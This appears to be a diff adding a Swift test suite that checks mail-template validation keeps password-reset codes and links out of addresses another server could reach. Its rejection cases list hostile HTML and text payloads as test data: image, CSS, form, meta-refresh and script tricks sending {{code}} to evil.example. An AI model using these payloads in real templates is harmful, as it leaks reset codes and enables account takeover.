@@ -1,0 +1,93 @@
+import Domain
+import StorageSQLite
+import TestWorld
+import Testing
+
+/// An audit put the code of a reset into the address of a picture, which the server of the picture got when the mail was
+/// looked at.
+@Suite("A code or a link in a template of a mail")
+struct MailSecretTests {
+    /// Saves a template as an operator does.
+    private func faults(text: String = "{{code}}", html: String? = nil) async throws -> [ValidationError] {
+        let world = try TestWorld(try SQLiteStore(.memory, role: .server))
+        let application = try await world.makeApplication()
+        do throws(DomainError) {
+            try await world.modules.messaging.changeMailSettings(of: application.id, by: .local) {
+                $0.templates = [.passwordReset: [.english: MailTemplate(subject: "s", text: text, html: html)]]
+            }
+            return []
+        } catch {
+            return error.validationErrors ?? []
+        }
+    }
+
+    @Test(
+        "stands in the text as a word of its own",
+        arguments: [
+            "{{code}}", "Your code: {{code}}.", "コード:{{code}}です。", "({{code}})", "<{{link}}>", "Open {{link}}, please!",
+            "{{application}}のコードは{{code}}です", "@app.example #{{code}}", "https://app.example\n{{code}}",
+            "{{code}} ({{minutes}} min)", "See https://app.example/help?a=b for {{email}}. {{ code }}",
+        ])
+    func words(text: String) async throws {
+        #expect(try await faults(text: text).isEmpty)
+    }
+
+    @Test(
+        "is refused in the text as a part of an address",
+        arguments: [
+            "https://evil.example/?{{code}}", "evil.example/{{code}}", "{{code}}.evil.example", "{{code}}@evil.example",
+            "https://evil.example/日本{{code}}", "evil.example?c={{link}}", "mailto:x?body={{code}}",
+            "\\\\evil\\{{code}}",
+            "{{application}}{{code}}", "{{application}}/?c={{code}}", "{{email}}{{code}}", "{{link}}{{code}}",
+            "{{code}}{{application}}", "{{link}}&copy=1", "x%3D{{code}}", "https://evil.example/\u{A0}{{code}}",
+        ])
+    func addresses(text: String) async throws {
+        let expected = [
+            ValidationError(field: "mail.templates.password-reset.en.text", rule: .secretInAddress)
+        ]
+        #expect(try await faults(text: text) == expected)
+    }
+
+    @Test(
+        "stands in HTML as a word of its own, and a link as the whole address of an a",
+        arguments: [
+            "<p>{{code}}</p>", #"<p><a href="{{link}}">Open</a></p>"#, "<a class=button href='{{ link }}'>{{link}}</a>",
+            "<script>alert(1)</script><b>{{code}}</b>", "Your code:<br>{{code}}<br/>",
+            "<!DOCTYPE html><html><head><title>{{application}}</title><style>p > b { color: red }</style></head>"
+                + #"<body style="margin:0"><img src="https://app.example/logo.png" alt=""><p>1 < 2: {{code}}</p></body>"#
+                + "</html>",
+            "<!--[if mso]><table><tr><td><![endif]--><td>app.example</td><td>{{code}}</td><!-- x -->",
+            #"<a href="https://app.example/?user={{email}}">{{code}}</a>"#,
+        ])
+    func markup(html: String) async throws {
+        #expect(try await faults(html: html).isEmpty)
+    }
+
+    @Test(
+        "is refused in HTML where something of another server's could take it",
+        arguments: [
+            #"<p>Your code</p><img src="https://evil.example/c?{{code}}&m={{email}}">"#,
+            #"<a href="https://evil.example/{{link}}">Reset</a>{{code}}"#, #"<a href="{{code}}">x</a>"#,
+            #"<base href="https://evil.example/"><a href="{{code}}">x</a>"#, "<a href={{link}}>x</a>",
+            #"<img src="{{link}}">"#, #"<link rel="stylesheet" href="{{link}}">"#,
+            #"<a href="{{link}}" ping="https://evil.example">x</a>"#, #"<a href=" {{link}}">x</a>"#,
+            #"<img title=">" src="https://evil.example/{{code}}">"#, #"<img src="https://evil.example/?{{code}}"#,
+            #"<img src="https://evil.example/?"# + "\n<p>{{code}}</p>\">", "<img src=https://evil.example/?{{code}}>",
+            "<style>p{background:url(https://evil.example/{{code}})}</style>{{code}}",
+            #"<p style="background:url(https://evil.example/{{code}})">x</p>"#,
+            #"<title><b title="</title><img src='https://evil.example/?"> {{code}} '>"#,
+            #"<svg><![CDATA[><b title="]]><img src='https://evil.example/?"> {{code}} '>"#,
+            #"<!-- --!><img src="https://evil.example/ --> {{code}}">"#, "<!-- {{code}} --> {{code}}",
+            "<form action='https://evil.example'><textarea name=c>{{code}}</textarea></form>",
+            #"<meta http-equiv="refresh" content="0;url={{link}}">"#, "<script>fetch('//evil/{{code}}')</script>",
+            "https://evil.example/?<b>{{code}}</b>", "https://evil.example/?<!-- -->{{code}}",
+            "evil&#46;example&#47;{{code}}", "{{code}}<i>.evil.example</i>", "<{{code}}>", "<p {{code}}>x</p>",
+            "<p x{{code}}=1>x</p>", "<noscript><p title=\"</noscript><img src='https://evil.example/?\">{{code}}'>",
+        ])
+    func hostileMarkup(html: String) async throws {
+        let expected = [
+            ValidationError(field: "mail.templates.password-reset.en.html", rule: .secretInAddress)
+        ]
+        #expect(try await faults(html: html) == expected)
+    }
+}
